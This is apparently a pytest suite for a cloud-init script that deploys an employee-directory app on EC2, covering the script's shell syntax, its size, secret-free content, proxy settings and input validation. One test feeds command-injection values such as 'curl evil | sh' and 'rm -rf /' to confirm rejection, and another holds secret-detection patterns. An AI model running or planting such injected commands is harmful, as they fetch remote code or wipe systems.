"""The web server's cloud-init script: valid bash, small enough for EC2, secret-free, and carrying the real app."""

from __future__ import annotations

import ast
import base64
import bz2
import difflib
import hashlib
import re
import shutil
import subprocess

import pytest

from constructs_lib.web_app.user_data import (
    APP_DIR,
    APP_IAM_ACTIONS,
    APP_LISTEN,
    CA_BUNDLE_URL,
    CA_FILE,
    DNF_PACKAGES,
    EC2_USER_DATA_LIMIT,
    app_source_path,
    render_user_data,
)

ARGS = {"region": "eu-west-1", "cluster_identifier": "aurora-web-db-7f3a", "database_name": "sample_db"}


@pytest.fixture(scope="module")
def script():
    return render_user_data(**ARGS)


@pytest.fixture(scope="module")
def lb_script():
    return render_user_data(**ARGS, behind_load_balancer=True)


def heredocs(script):
    """Marker -> body of every quoted heredoc in the script."""
    return dict(re.findall(r"<<'(\w+)'\n(.*?)\n\1\n", script, re.DOTALL))


def embedded_app(script):
    return bz2.decompress(base64.a85decode(heredocs(script)["EMPLOYEE_DIRECTORY_PY"]))


def test_is_a_strict_bash_script(script):
    assert script.startswith("#!/bin/bash\n")
    assert "\nset -euo pipefail\n" in script.split("dnf install")[0]
    subprocess.run(["bash", "-n"], input=script, text=True, check=True)


@pytest.mark.integration
def test_passes_shellcheck(script):
    shellcheck = shutil.which("shellcheck")
    if shellcheck is None:
        pytest.skip("shellcheck not installed (apt-get install shellcheck)")
    result = subprocess.run(
        [shellcheck, "--shell=bash", "--severity=style", "-"], input=script, text=True, capture_output=True, check=False
    )
    assert result.returncode == 0, result.stdout + result.stderr


@pytest.mark.parametrize("behind_load_balancer", [False, True])
def test_is_well_under_the_ec2_user_data_limit(behind_load_balancer):
    size = len(render_user_data(**ARGS, behind_load_balancer=behind_load_balancer).encode("utf-8"))
    assert size < EC2_USER_DATA_LIMIT == 16384
    # About 850 bytes to spare: a bigger app needs gzip-compressed user data (cloud-init unpacks it).
    assert size <= 15.5 * 1024, f"{size} bytes leaves too little headroom under the 16 KB limit"


def test_names_the_cluster_but_holds_no_secret(script):
    entry = heredocs(script)["EMPLOYEE_DIRECTORY_WSGI"]
    for value in ARGS.values():
        assert repr(value) in entry
    for text in (script, embedded_app(script).decode("utf-8")):
        assert not re.search(r"(?i)passw(or)?d\w*[\"']?\s*[:=]\s*[\"'][^\"']", text), "password literal"
        assert not re.search(r"(?m)^\s*(export\s+)?[A-Z_]*(PASSW(OR)?D|SECRET)[A-Z_]*=", text), "shell variable"
        assert "PRIVATE KEY" not in text
        assert not re.search(r"\b(AKIA|ASIA)[0-9A-Z]{16}\b", text), "AWS access key id"
        assert not re.search(r"(?i)aws_secret_access_key|arn:aws:secretsmanager:", text)
        assert not re.search(r"\.cluster-(ro-)?\w+\.[\w-]+\.rds\.amazonaws\.com", text), "endpoints are looked up"


def test_embeds_the_package_app_unchanged(script):
    source = app_source_path().read_bytes()
    assert embedded_app(script) == source
    assert f"echo '{hashlib.sha256(source).hexdigest()}  {APP_DIR}/employee_directory.py' | sha256sum" in script


def test_app_and_entry_point_are_python_3_9(script):
    """The app's virtual environment on Amazon Linux 2023 runs the system Python 3.9."""
    ast.parse(app_source_path().read_text(encoding="utf-8"), feature_version=(3, 9))
    ast.parse(heredocs(script)["EMPLOYEE_DIRECTORY_WSGI"], feature_version=(3, 9))


def test_installs_the_app_behind_httpd_as_a_service(script):
    """AL2023 packages only; the app under waitress as a systemd service; httpd proxies port 80 to it.

    tests/web_app/test_web_app_boot.py runs the whole script in an isolated root.
    """
    assert f"dnf install -y {' '.join(DNF_PACKAGES)}\n" in script
    assert f"--output {CA_FILE}.tmp {CA_BUNDLE_URL}\n" in script
    assert "--require-hashes --no-deps --only-binary :all: -r " in script
    unit = heredocs(script)["EMPLOYEE_DIRECTORY_UNIT"]
    assert "DynamicUser=yes\n" in unit and "NoNewPrivileges=yes\n" in unit and "ProtectSystem=strict\n" in unit
    assert f"--listen={APP_LISTEN}" in unit and APP_LISTEN.startswith("127.0.0.1:")
    conf = heredocs(script)["EMPLOYEE_DIRECTORY_CONF"]
    assert f"ProxyPass / http://{APP_LISTEN}/" in conf and "ProxyRequests Off" in conf
    assert script.rstrip().endswith(
        "apachectl configtest\nsystemctl daemon-reload\nsystemctl enable --now employee-directory.service\n"
        "systemctl enable httpd\nsystemctl restart httpd"
    )


def test_without_a_load_balancer_httpd_overwrites_the_clients_forwarded_proto(script):
    """The instance answers HTTP itself: whatever X-Forwarded-Proto a client sends, the app is told "http"."""
    conf = heredocs(script)["EMPLOYEE_DIRECTORY_CONF"]
    assert "RequestHeader set X-Forwarded-Proto http early\n" in conf
    assert conf.index("X-Forwarded-Proto") < conf.index("ProxyPass /"), "set before the request is proxied"
    unit = heredocs(script)["EMPLOYEE_DIRECTORY_UNIT"]
    assert '--trusted-proxy=127.0.0.1 \\\n  "--trusted-proxy-headers=x-forwarded-for x-forwarded-proto" ' in unit
    assert "--trusted-proxy-count" not in unit, "httpd's own hop is the client: waitress's default count of 1"


def test_behind_the_load_balancer_the_albs_forwarded_proto_and_hop_are_trusted(lb_script):
    """TLS ends at the ALB: httpd passes its X-Forwarded-Proto on, and waitress skips the ALB's X-Forwarded-For hop."""
    conf = heredocs(lb_script)["EMPLOYEE_DIRECTORY_CONF"]
    assert "X-Forwarded-Proto" not in conf
    unit = heredocs(lb_script)["EMPLOYEE_DIRECTORY_UNIT"]
    assert '"--trusted-proxy-headers=x-forwarded-for x-forwarded-proto" --trusted-proxy-count=2 ' in unit


def test_the_load_balancer_changes_only_the_proxy_trust(script, lb_script):
    changed = [
        line
        for line in difflib.unified_diff(script.splitlines(), lb_script.splitlines(), lineterm="", n=0)
        if line[:1] in "+-" and not line.startswith(("+++", "---"))
    ]
    assert changed == [
        '-  "--trusted-proxy-headers=x-forwarded-for x-forwarded-proto" wsgi_entry:application',
        '+  "--trusted-proxy-headers=x-forwarded-for x-forwarded-proto" --trusted-proxy-count=2 wsgi_entry:application',
        "-RequestHeader set X-Forwarded-Proto http early",
    ], changed


def test_behind_load_balancer_is_a_boolean():
    with pytest.raises(TypeError, match="True or False"):
        render_user_data(**ARGS, behind_load_balancer="yes")


def test_rendering_is_deterministic(script):
    """Any byte of change would make Terraform update the instance."""
    assert render_user_data(**ARGS) == script


@pytest.mark.parametrize(
    "field, value",
    [
        ("region", "eu-west-1; curl evil | sh"),
        ("region", "${TfToken[TOKEN.12]}"),
        ("cluster_identifier", "db'; rm -rf /"),
        ("cluster_identifier", "a" * 64),
        ("cluster_identifier", "ends-"),
        ("database_name", "sample`"),
        ("database_name", "1sample"),
        ("database_name", ""),
    ],
)
def test_refuses_values_that_are_not_plain_names(field, value):
    with pytest.raises(ValueError, match="not a plain"):
        render_user_data(**{**ARGS, field: value})


def test_iam_actions_are_least_privilege():
    assert APP_IAM_ACTIONS == {"rds": ["rds:DescribeDBClusters"], "secret": ["secretsmanager:GetSecretValue"]}
